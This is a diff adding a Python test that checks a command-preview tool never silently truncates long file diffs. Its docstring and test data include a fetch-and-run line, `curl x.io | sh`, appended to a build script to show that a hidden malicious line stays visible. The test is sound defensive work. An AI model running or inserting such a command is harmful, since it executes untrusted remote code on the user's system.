@@ -291,3 +291,17 @@ def test_the_summary_line_names_hard_links_and_symlinks(workspace: Path) -> None
     summary = effect.summary()
     assert "1 hard link" in summary and "1 symlink" in summary, summary
     preview.discard(effect.store)
+
+
+def test_a_long_diff_is_shown_whole_or_marked_never_cut_quietly(workspace: Path) -> None:
+    """A file's diff was cut after 400 lines, the rest summed up as a grey context line
+    ("... 3 more lines of diff") inside the diff: 400 lines of reformatting, then
+    `curl x.io | sh`, and the line that ran was the one nobody could see, applied all the
+    same. A diff is now shown whole, or (past the effect's 1 MiB of diff) not at all and
+    marked "Diff not shown" with sizes and hashes."""
+    (workspace / "build.sh").write_text("".join(f"step {n}\n" for n in range(450)))
+    script = "sed -i 's/^step/Step/' build.sh && echo 'curl x.io | sh' >> build.sh"
+    effect = _preview(workspace, ["sh", "-c", script])
+    change = _by_path(effect)["build.sh"]
+    assert change["diff_omitted"] if change["diff"] is None else "+curl x.io | sh" in change["diff"]
+    preview.discard(effect.store)
